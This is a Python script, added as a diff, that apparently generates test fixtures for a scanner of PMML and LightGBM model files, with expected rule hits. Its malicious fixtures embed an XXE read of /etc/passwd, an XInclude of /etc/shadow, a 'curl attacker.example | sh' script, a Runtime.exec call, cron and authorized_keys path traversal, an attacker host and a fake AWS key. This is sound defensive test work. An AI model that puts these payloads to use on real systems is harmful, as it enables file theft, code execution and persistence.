@@ -1,0 +1,224 @@
+"""Fixtures for the classic model formats: XGBoost, LightGBM, CatBoost, PMML, skops.
+
+None of those libraries is installed, so every file is built by hand from the formats' public
+descriptions (XGBoost's JSON schema and UBJSON, LightGBM's text model, CatBoost's CBM1 + flatbuffer
+core, PMML 4.4, skops' schema.json). Run with /usr/bin/python3; writes into
+src/test/resources/fixtures/{xgboost,lightgbm,catboost,pmml,skops}.
+"""
+import io
+import json
+import os
+import pickle
+import struct
+import zipfile
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+FIX = os.path.join(HERE, "..", "resources", "fixtures")
+
+
+def out(folder, name, data):
+    d = os.path.join(FIX, folder)
+    os.makedirs(d, exist_ok=True)
+    if isinstance(data, str):
+        data = data.encode("utf-8")
+    with open(os.path.join(d, name), "wb") as f:
+        f.write(data)
+
+
+def expected(folder, mapping):
+    out(folder, "expected-rules.json", json.dumps(mapping, indent=2, sort_keys=True) + "\n")
+
+
+# ---------------------------------------------------------------- PMML
+
+PMML_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
+PMML_NS = "http://www.dmg.org/PMML-4_4"
+
+
+def pmml(body, header_extra="", doctype=""):
+    return (
+        PMML_HEAD
+        + doctype
+        + f'<PMML xmlns="{PMML_NS}" version="4.4">\n'
+        + f'  <Header copyright="Example Corp" description="credit scoring">\n'
+        + f'    <Application name="SKL2PMML" version="0.90.0"/>\n{header_extra}  </Header>\n'
+        + "  <DataDictionary numberOfFields=\"3\">\n"
+        + '    <DataField name="x1" optype="continuous" dataType="double"/>\n'
+        + '    <DataField name="x2" optype="continuous" dataType="double"/>\n'
+        + '    <DataField name="y" optype="categorical" dataType="string">'
+        + '<Value value="no"/><Value value="yes"/></DataField>\n'
+        + "  </DataDictionary>\n"
+        + body
+        + "</PMML>\n"
+    )
+
+
+REGRESSION = """  <RegressionModel functionName="classification" normalizationMethod="logit">
+    <MiningSchema>
+      <MiningField name="y" usageType="target"/>
+      <MiningField name="x1"/>
+      <MiningField name="x2"/>
+    </MiningSchema>
+    <RegressionTable targetCategory="yes" intercept="-1.25">
+      <NumericPredictor name="x1" coefficient="0.75"/>
+      <NumericPredictor name="x2" coefficient="-0.5"/>
+    </RegressionTable>
+    <RegressionTable targetCategory="no" intercept="0"/>
+  </RegressionModel>
+"""
+
+TRANSFORM = """  <TransformationDictionary>
+    <DefineFunction name="scaled" optype="continuous" dataType="double">
+      <ParameterField name="v"/>
+      <Apply function="/"><FieldRef field="v"/><Constant>10</Constant></Apply>
+    </DefineFunction>
+    <DerivedField name="x1s" optype="continuous" dataType="double">
+      <Apply function="scaled"><FieldRef field="x1"/></Apply>
+    </DerivedField>
+    <DerivedField name="x2log" optype="continuous" dataType="double">
+      <Apply function="ln"><Apply function="+"><FieldRef field="x2"/><Constant>1</Constant></Apply></Apply>
+    </DerivedField>
+  </TransformationDictionary>
+"""
+
+
+def gen_pmml():
+    out("pmml", "benign-regression.pmml", pmml(REGRESSION))
+    out("pmml", "benign-transformations.xml", pmml(TRANSFORM + REGRESSION))
+    out(
+        "pmml",
+        "benign-extension-metadata.pmml",
+        pmml(REGRESSION, '    <Extension name="repr" value="PMMLPipeline(steps=[...])"/>\n'.replace("(steps=[...])", "")),
+    )
+    out(
+        "pmml",
+        "malicious-xxe-file.pmml",
+        pmml(
+            REGRESSION,
+            "    <Annotation>&xxe;</Annotation>\n",
+            '<!DOCTYPE PMML [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n',
+        ),
+    )
+    out(
+        "pmml",
+        "malicious-extension-script.pmml",
+        pmml(
+            REGRESSION,
+            '    <Extension extender="evil" name="preprocess">\n'
+            "      <script language=\"python\">import os; os.system('curl http://attacker.example/x | sh')</script>\n"
+            "    </Extension>\n",
+        ),
+    )
+    out(
+        "pmml",
+        "malicious-apply-java-class.pmml",
+        pmml(
+            TRANSFORM.replace('function="ln"', 'function="java.lang.Runtime.exec"') + REGRESSION
+        ),
+    )
+    out(
+        "pmml",
+        "malicious-xinclude.pmml",
+        pmml(REGRESSION, '    <xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/shadow" parse="text"/>\n'),
+    )
+    out("pmml", "malformed-truncated.pmml", pmml(REGRESSION)[:400])
+    out("pmml", "malformed-deep-nesting.pmml", PMML_HEAD + f'<PMML xmlns="{PMML_NS}" version="4.4">' + "<Extension>" * 400 + "x" + "</Extension>" * 400 + "</PMML>\n")
+    expected(
+        "pmml",
+        {
+            "benign-extension-metadata.pmml": ["PMML-002"],
+            "malicious-xxe-file.pmml": ["PMML-001"],
+            "malicious-extension-script.pmml": ["PMML-002"],
+            "malicious-apply-java-class.pmml": ["PMML-003"],
+            "malicious-xinclude.pmml": ["PMML-004"],
+            "malformed-truncated.pmml": ["CORE-001"],
+            "malformed-deep-nesting.pmml": ["CORE-001"],
+        },
+    )
+
+
+# ---------------------------------------------------------------- LightGBM
+
+def lgb_tree(i, leaves=3, split=(0, 2), left=(1, -1), right=(-2, -3)):
+    return (
+        f"Tree={i}\n"
+        f"num_leaves={leaves}\n"
+        "num_cat=0\n"
+        f"split_feature={' '.join(map(str, split))}\n"
+        "split_gain=12.5 3.25\n"
+        "threshold=0.50000000000000011 1.2500000000000002\n"
+        "decision_type=2 2\n"
+        f"left_child={' '.join(map(str, left))}\n"
+        f"right_child={' '.join(map(str, right))}\n"
+        "leaf_value=-0.12 0.08 0.21\n"
+        "leaf_weight=10 12 8\n"
+        "leaf_count=40 48 32\n"
+        "internal_value=0 0.1\n"
+        "internal_weight=30 20\n"
+        "internal_count=120 80\n"
+        "is_linear=0\n"
+        "shrinkage=0.1\n\n\n"
+    )
+
+
+def lgb_params(extra=None):
+    params = {
+        "boosting": "gbdt",
+        "objective": "binary",
+        "data": "",
+        "valid": "",
+        "num_iterations": "2",
+        "learning_rate": "0.1",
+        "num_leaves": "31",
+        "num_threads": "0",
+        "seed": "0",
+        "max_depth": "-1",
+        "output_model": "LightGBM_model.txt",
+        "input_model": "",
+        "forcedsplits_filename": "",
+        "forcedbins_filename": "",
+        "machines": "",
+        "local_listen_port": "12121",
+        "num_machines": "1",
+    }
+    params.update(extra or {})
+    return "parameters:\n" + "".join(f"[{k}: {v}]\n" for k, v in params.items()) + "end of parameters\n"
+
+
+def lgb_model(trees=None, params=None, header_extra=""):
+    trees = trees if trees is not None else [lgb_tree(0), lgb_tree(1)]
+    return (
+        "tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=3\n"
+        "objective=binary sigmoid:1\nfeature_names=age income score tenure\n"
+        "feature_infos=[18:90] [0:250000] [0:1] [0:40]\n"
+        + header_extra
+        + "tree_sizes=" + " ".join("400" for _ in trees) + "\n\n"
+        + "".join(trees)
+        + "end of trees\n\nfeature_importances:\nage=2\nscore=2\n\n"
+        + (params if params is not None else lgb_params())
+        + "\npandas_categorical:null\n"
+    )
+
+
+def gen_lightgbm():
+    out("lightgbm", "benign-binary.txt", lgb_model())
+    out("lightgbm", "benign-single-leaf.txt", lgb_model(trees=["Tree=0\nnum_leaves=1\nnum_cat=0\nsplit_feature=\nsplit_gain=\nthreshold=\ndecision_type=\nleft_child=\nright_child=\nleaf_value=0.5\nleaf_weight=\nleaf_count=\ninternal_value=\ninternal_weight=\ninternal_count=\nis_linear=0\nshrinkage=1\n\n\n"]))
+    out("lightgbm", "malicious-output-model-path.txt", lgb_model(params=lgb_params({"output_model": "/etc/cron.d/lightgbm", "forcedsplits_filename": "../../../home/user/.ssh/authorized_keys"})))
+    out("lightgbm", "malicious-machines.txt", lgb_model(params=lgb_params({"machines": "10.0.0.5:12400,attacker.example.com:12400", "num_machines": "2"})))
+    out("lightgbm", "malicious-secret-in-header.txt", lgb_model(header_extra="data_source=s3://models?aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQ9a8Lk3Tz AKIAZ7QW4RTY8UOP2MXA\n"))
+    out("lightgbm", "malformed-tree-arrays.txt", lgb_model(trees=[lgb_tree(0, split=(0, 7), left=(5, -1))]))
+    out("lightgbm", "malformed-truncated.txt", lgb_model()[:700])
+    expected(
+        "lightgbm",
+        {
+            "malicious-output-model-path.txt": ["LGB-001", "LGB-001"],
+            "malicious-machines.txt": ["LGB-002"],
+            "malformed-tree-arrays.txt": ["LGB-003", "LGB-003"],
+            "malformed-truncated.txt": ["CORE-001"],
+        },
+    )
+
+
+if __name__ == "__main__":
+    gen_pmml()
+    gen_lightgbm()
